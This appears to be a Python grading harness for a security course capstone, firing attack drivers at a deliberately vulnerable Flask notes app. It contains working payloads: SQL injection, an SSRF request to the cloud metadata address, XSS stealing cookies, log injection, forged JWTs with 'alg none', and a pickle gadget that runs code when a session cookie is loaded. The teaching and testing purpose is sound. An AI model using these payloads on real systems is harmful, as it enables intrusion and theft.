"""Capstone: one attack driver per planted flaw, fired at a whole notes app.

``probe(flaw, namespace, payloads)`` builds one app from the component functions in
``namespace`` (a notebook's globals, or ``targets.namespace_of(...)``), runs the steps an
attacker needs (register, log in, write a note), then fires every payload and says per
payload whether the attack ``succeeded``, was ``stopped``, or was ``inconclusive``: the
steps it needs no longer work (an app that refuses everybody stops nothing). The
grader's spec and the lesson's playground both call these drivers; ``PUBLIC`` holds the
payloads the lesson demonstrates and ``check`` fires, ``CORPUS`` one public payload list
per flaw (the hidden corpus adds variants).
"""

from __future__ import annotations

import base64
import html.parser
import io
import json
import os
import pickle  # builds the forged cookies the session probe sends  # nosec B403
import secrets
import shutil
import tempfile
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jwt
from itsdangerous import URLSafeTimedSerializer

from seclab.topics.capstone import targets

SUCCEEDED, STOPPED, INCONCLUSIVE = "succeeded", "stopped", "inconclusive"


@dataclass(frozen=True)
class ProbeResult:
    """What one payload achieved against one app."""

    flaw: str
    payload: str
    verdict: str
    evidence: str

    @property
    def succeeded(self) -> bool:
        return self.verdict == SUCCEEDED

    def __str__(self) -> str:
        return f"{self.verdict}: {self.payload} -> {self.evidence}"


class Inconclusive(Exception):
    """A step the attack needs (registering, logging in, writing a note) did not work."""


# --- an attacker's browser --------------------------------------------------------------------

class Visitor:
    """One browser (its own cookies) on the app, speaking JSON."""

    def __init__(self, app: Any) -> None:
        self.client = app.test_client()

    def post(self, path: str, body: Any = None, **options: Any) -> Any:
        return self.client.post(path, json=body, **options)

    def get(self, path: str, **options: Any) -> Any:
        return self.client.get(path, **options)

    def join(self, username: str, password: str) -> None:
        """Register and log in; Inconclusive when either does not work."""
        registered = self.post("/register", {"username": username, "password": password})
        if registered.status_code != 201:
            raise Inconclusive(f"registering {username!r} answered HTTP {registered.status_code}")
        self.login(username, password)

    def login(self, username: str, password: str) -> None:
        reply = self.post("/login", {"username": username, "password": password})
        me = self.get("/me")
        if reply.status_code != 200 or _json(me) != {"user": username}:
            raise Inconclusive(f"logging in as {username!r} did not work (HTTP {reply.status_code})")

    def write(self, title: str, body: str) -> int:
        reply = self.post("/notes", {"title": title, "body": body})
        note_id = (_json(reply) or {}).get("id") if isinstance(_json(reply), dict) else None
        if reply.status_code != 201 or not isinstance(note_id, int):
            raise Inconclusive(f"writing a note answered HTTP {reply.status_code}")
        return note_id


def _json(reply: Any) -> Any:
    try:
        return json.loads(reply.get_data(as_text=True))
    except ValueError:
        return None


def _password() -> str:
    return "pw-" + secrets.token_urlsafe(12)


def _victim_with_secret(app: Any) -> tuple[Visitor, str, int]:
    """alice, logged in, with a note holding a fresh secret: (her browser, the secret, the note id)."""
    alice = Visitor(app)
    alice.join("alice", _password())
    secret = "SECRET-" + secrets.token_hex(6)
    return alice, secret, alice.write("alice's diary", f"my bank PIN is {secret}")


# --- the drivers, one per flaw ---------------------------------------------------------------

def _sqli(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    _alice, secret, _note = _victim_with_secret(app)
    mallory = Visitor(app)
    mallory.join("mallory", _password())
    found = []
    for term in payloads:
        reply = mallory.get("/notes", query_string={"q": term})
        leaked = secret in reply.get_data(as_text=True)
        found.append((SUCCEEDED if leaked else STOPPED,
                      f"mallory's search answered HTTP {reply.status_code}"
                      + (" with alice's secret note" if leaked else ", nothing of alice's")))
    return found


def _idor(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    alice, secret, note_id = _victim_with_secret(app)
    mallory = Visitor(app)
    mallory.join("mallory", _password())
    own = mallory.write("mallory's note", "nothing to see")
    found = []
    for action in payloads:
        target = note_id + int(action.get("offset", 0)) if isinstance(action, dict) else note_id
        kind = action.get("action", "view") if isinstance(action, dict) else str(action)
        if kind == "edit":
            reply = mallory.post(f"/notes/{target}", {"title": "pwned", "body": "pwned by mallory"})
            listed = alice.get("/notes")
            if listed.status_code != 200:
                raise Inconclusive("alice cannot list her notes")
            changed = "pwned by mallory" in listed.get_data(as_text=True)
            found.append((SUCCEEDED if changed else STOPPED,
                          f"mallory's edit of note {target} answered HTTP {reply.status_code}"
                          + (": alice's note now says what mallory wrote" if changed else "")))
        else:
            if mallory.get(f"/notes/{own}").status_code != 200:
                raise Inconclusive("mallory cannot read her own note")
            reply = mallory.get(f"/notes/{target}")
            leaked = secret in reply.get_data(as_text=True)
            found.append((SUCCEEDED if leaked else STOPPED,
                          f"mallory's GET /notes/{target} answered HTTP {reply.status_code}"
                          + (" with alice's secret" if leaked else "")))
    return found


_FAST_DIGESTS = ("md5", "sha1", "sha224", "sha256", "sha384", "sha512")


def _plain_digests(password: str) -> set[str]:
    import hashlib

    digests = set()
    for name in _FAST_DIGESTS:
        raw = hashlib.new(name, password.encode()).digest()
        digests |= {raw.hex(), base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode()}
    return digests


def _hash(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    hash_password, verify_password = namespace["hash_password"], namespace["verify_password"]
    found = []
    for password in payloads:
        first, second = hash_password(password), hash_password(password)
        if not isinstance(first, str) or verify_password(first, password) is not True:
            raise Inconclusive("a stored hash does not verify with its own password")
        if first == second:
            found.append((SUCCEEDED, "the same password gives the same hash twice: no salt, a lookup table cracks it"))
        elif {first.strip().lower(), first.strip()} & _plain_digests(password):
            found.append((SUCCEEDED, "the stored value is a plain fast digest of the password"))
        else:
            found.append((STOPPED, "salted: two hashes of one password differ"))
    return found


def _throttle(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    found = []
    for number, guesses in enumerate(payloads):
        victim, password = f"victim{number}", _password()
        Visitor(app).join(victim, password)
        attacker = Visitor(app)
        statuses = [attacker.post("/login", {"username": victim, "password": f"guess-{guess}"}).status_code
                    for guess in range(int(guesses))]
        if 200 in statuses:
            raise Inconclusive("a wrong password logged in")
        final = attacker.post("/login", {"username": victim, "password": password})
        found.append((SUCCEEDED if final.status_code == 200 else STOPPED,
                      f"after {guesses} wrong guesses the right one answered HTTP {final.status_code}"))
    return found


class _Gadget:
    """A pickle that creates a folder when it is loaded: proof that loading it runs code."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        return (os.mkdir, (self.path,))


def forged_cookie(kind: str, data: dict[str, Any], marker: str = "") -> str:
    """A session cookie the attacker makes without the app's key (``kind``: pickle, json, other-key, gadget)."""
    if kind == "pickle":
        return base64.urlsafe_b64encode(pickle.dumps(data)).decode()
    if kind == "json":
        return base64.urlsafe_b64encode(json.dumps(data).encode()).decode()
    if kind == "other-key":
        return URLSafeTimedSerializer(secrets.token_urlsafe(32), salt="notes-session").dumps(data)
    if kind == "gadget":
        return base64.urlsafe_b64encode(pickle.dumps(_Gadget(marker))).decode()
    raise ValueError(f"unknown forged cookie kind {kind!r}")


def _session(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    _victim_with_secret(app)
    cookie_name = namespace.get("SESSION_COOKIE", "notes_session")
    found = []
    for kind in payloads:
        folder = tempfile.mkdtemp(prefix="seclab-capstone-")
        marker = str(Path(folder) / "code-ran")
        try:
            visitor = Visitor(app)
            visitor.client.set_cookie(cookie_name, forged_cookie(str(kind), {"user": "alice"}, marker))
            reply = visitor.get("/me")
            if Path(marker).exists():
                found.append((SUCCEEDED, "loading the cookie ran the attacker's code"))
            elif _json(reply) == {"user": "alice"}:
                found.append((SUCCEEDED, f"a {kind} cookie made without the key logged in as alice"))
            else:
                found.append((STOPPED, f"GET /me with a forged {kind} cookie answered HTTP {reply.status_code}"))
        finally:
            shutil.rmtree(folder, ignore_errors=True)
    return found


ERROR_ROUTE = "/seclab-capstone-error"


def _debug(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    config = namespace["make_config"]({})
    if not isinstance(config, Mapping) or "SECRET_KEY" not in config:
        raise Inconclusive("make_config({}) gave no SECRET_KEY")
    app = targets.build_app(namespace, {**config, "ADMINS": {}})[0]

    def fail() -> Any:
        raise RuntimeError("a bug in a view: database password is hunter2")

    app.add_url_rule(ERROR_ROUTE, "seclab_capstone_error", fail)
    app.logger.disabled = True
    found = []
    for kind in payloads:
        if kind == "debug-flag":
            found.append((SUCCEEDED if app.debug else STOPPED, f"app.debug is {app.debug!r}"))
            continue
        path = ERROR_ROUTE if kind == "error-page" else "/console"
        try:
            reply = Visitor(app).get(path, environ_overrides={"wsgi.errors": io.StringIO()})
        except Exception as error:  # Flask in debug mode hands the error to the caller
            found.append((SUCCEEDED, f"GET {path} raised {type(error).__name__} out of the app (debug mode)"))
            continue
        text = reply.get_data(as_text=True)
        leaked = "Traceback" in text or "hunter2" in text or "Werkzeug Debugger" in text or (
            kind == "console" and reply.status_code == 200 and "console" in text.lower())
        found.append((SUCCEEDED if leaked else STOPPED,
                      f"GET {path} answered HTTP {reply.status_code}"
                      + (" with the debugger's page" if leaked else " without a traceback")))
    return found


def _key(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    make_config = namespace["make_config"]
    strong = secrets.token_urlsafe(32)
    given = make_config({"NOTES_SECRET_KEY": strong})
    if not isinstance(given, Mapping) or given.get("SECRET_KEY") != strong:
        raise Inconclusive("make_config does not use a strong NOTES_SECRET_KEY it is given")
    found = []
    for environ in payloads:
        try:
            first = make_config(dict(environ))
        except ValueError:
            found.append((STOPPED, "refused to start"))
            continue
        key = first.get("SECRET_KEY") if isinstance(first, Mapping) else None
        if "NOTES_SECRET_KEY" in environ:
            found.append((SUCCEEDED, "started with a NOTES_SECRET_KEY shorter than 32 characters"))
        elif not isinstance(key, str) or len(key) < 32 or key in targets.WELL_KNOWN_KEYS:
            found.append((SUCCEEDED, "without NOTES_SECRET_KEY the key is short or well known"))
        elif make_config(dict(environ)).get("SECRET_KEY") == key:
            found.append((SUCCEEDED, "without NOTES_SECRET_KEY every start uses the same key: it is in the code"))
        else:
            found.append((STOPPED, "a fresh random key per start"))
    return found


def _log(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    log = app.config.get("AUDIT_LOG")
    if not isinstance(log, list):
        raise Inconclusive("the app keeps no audit log at app.config['AUDIT_LOG']")
    found = []
    for username in payloads:
        before = len(log)
        Visitor(app).post("/login", {"username": username, "password": _password()})
        new = [entry for entry in log[before:] if isinstance(entry, str)]
        if not new or not any(username.split("\n")[0][:6] in entry for entry in new):
            raise Inconclusive("a failed login left no audit line naming the user")
        forged = [entry for entry in new if len(entry.splitlines()) != 1]
        found.append((SUCCEEDED if forged else STOPPED,
                      "the user name broke the audit line into "
                      f"{max(len(entry.splitlines()) for entry in new)} lines" if forged
                      else "one event, one line"))
    return found


def _ssrf(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app, _config, network = targets.build_app(namespace)
    visitor = Visitor(app)
    visitor.join("mallory", _password())
    found = []
    for url in payloads:
        network.internal_hits.clear()
        reply = visitor.post("/preview", {"url": url})
        found.append((SUCCEEDED if network.internal_hits else STOPPED,
                      f"POST /preview answered HTTP {reply.status_code}"
                      + ("; the server fetched an internal address" if network.internal_hits else "")))
    return found


def _token(kind: str, key: str) -> str:
    now = int(time.time())
    if kind == "none":
        header = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').rstrip(b"=").decode()
        body = base64.urlsafe_b64encode(json.dumps({"sub": "alice", "exp": now + 600}).encode()).rstrip(b"=")
        return f"{header}.{body.decode()}."
    if kind == "other-key":
        return jwt.encode({"sub": "alice", "exp": now + 600}, secrets.token_urlsafe(32), algorithm="HS256")
    if kind == "expired":
        return jwt.encode({"sub": "alice", "iat": now - 7200, "exp": now - 3600}, key, algorithm="HS256")
    if kind == "no-exp":
        return jwt.encode({"sub": "alice"}, key, algorithm="HS256")
    if kind == "no-signature":
        return jwt.encode({"sub": "alice", "exp": now + 600}, key, algorithm="HS256").rsplit(".", 1)[0] + "."
    raise ValueError(f"unknown token kind {kind!r}")


def _jwt(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app, config, _network = targets.build_app(namespace)
    _alice, secret, _note = _victim_with_secret(app)
    mallory = Visitor(app)
    mallory.join("mallory", _password())
    issued = _json(mallory.post("/api/token"))
    token = issued.get("token") if isinstance(issued, dict) else None
    if not isinstance(token, str) or mallory.get("/api/notes", headers={"Authorization": f"Bearer {token}"}
                                                 ).status_code != 200:
        raise Inconclusive("a token the app issued does not work at /api/notes")
    found = []
    for kind in payloads:
        reply = Visitor(app).get("/api/notes",
                                 headers={"Authorization": f"Bearer {_token(str(kind), config['SECRET_KEY'])}"})
        leaked = secret in reply.get_data(as_text=True)
        found.append((SUCCEEDED if leaked else STOPPED,
                      f"GET /api/notes with a {kind} token for alice answered HTTP {reply.status_code}"))
    return found


def _failopen(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app, config, _network = targets.build_app(namespace)
    root = Visitor(app)
    root.login("root", config["ADMINS"]["root"])
    if root.get("/admin/users").status_code != 200:
        raise Inconclusive("the administrator cannot open /admin/users")
    found = []
    for path in payloads:
        reply = Visitor(app).get(str(path))
        found.append((SUCCEEDED if reply.status_code == 200 else STOPPED,
                      f"an anonymous GET {path} answered HTTP {reply.status_code}"))
    return found


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(page: str) -> tuple[list[tuple[str, list[tuple[str, str | None]]]], str]:
    """(start tags with their attributes, visible text) of ``page``."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.tags, "".join(parser.text)


NOTE_TAGS = {"article", "h1", "div"}


def _xss(namespace: Mapping[str, Any], payloads: list[Any]) -> list[tuple[str, str]]:
    app = targets.build_app(namespace)[0]
    mallory = Visitor(app)
    mallory.join("mallory", _password())
    found = []
    for payload in payloads:
        title, body = (payload.get("title", "note"), payload.get("body", "text")) if isinstance(payload, dict) \
            else (str(payload), "text")
        note_id = mallory.write(title, body)
        reply = mallory.get(f"/notes/{note_id}")
        if reply.status_code != 200:
            raise Inconclusive(f"reading one's own note answered HTTP {reply.status_code}")
        tags, _text = parse_html(reply.get_data(as_text=True))
        injected = [tag for tag, attrs in tags
                    if tag not in NOTE_TAGS or any(name.lower().startswith("on") for name, _ in attrs)]
        found.append((SUCCEEDED if injected else STOPPED,
                      f"the note page holds a <{injected[0]}> element from the note's text" if injected
                      else "the note's text stays text"))
    return found


DRIVERS: dict[str, Callable[[Mapping[str, Any], list[Any]], list[tuple[str, str]]]] = {
    "sqli": _sqli, "idor": _idor, "hash": _hash, "throttle": _throttle, "session": _session, "debug": _debug,
    "key": _key, "log": _log, "ssrf": _ssrf, "jwt": _jwt, "failopen": _failopen, "xss": _xss,
}

#: one public payload list per flaw (the hidden corpus adds variants)
CORPUS: dict[str, list[Any]] = {
    "sqli": ["') OR 1=1 --"],
    "idor": [{"action": "view"}],
    "hash": ["correct horse battery staple"],
    "throttle": [20],
    "session": ["pickle"],
    "debug": ["error-page"],
    "key": [{}],
    "log": ["mallory\n2025-01-01T00:00:00 login_ok user=admin"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/"],
    "jwt": ["none"],
    "failopen": ["/admin/users"],
    "xss": [{"title": "<script>alert(document.cookie)</script>", "body": "hello"}],
}

#: the flaws the lesson demonstrates; ``check`` fires exactly these probes
PUBLIC = ("sqli", "idor", "ssrf")


def probe(flaw: str, namespace: Mapping[str, Any], payloads: list[Any] | None = None) -> list[ProbeResult]:
    """Fire ``payloads`` (default: the public ones) at an app built from ``namespace``."""
    payloads = CORPUS[flaw] if payloads is None else payloads
    shown = [payload if isinstance(payload, str) else json.dumps(payload) for payload in payloads]
    try:
        found = DRIVERS[flaw](namespace, list(payloads))
    except Inconclusive as why:
        return [ProbeResult(flaw, text, INCONCLUSIVE, str(why)) for text in shown]
    except Exception as error:  # the app under attack may raise anything: the probe cannot tell
        return [ProbeResult(flaw, text, INCONCLUSIVE, f"the app raised {type(error).__name__}: {error}"[:200])
                for text in shown]
    return [ProbeResult(flaw, text, verdict, evidence) for text, (verdict, evidence) in zip(shown, found, strict=True)]
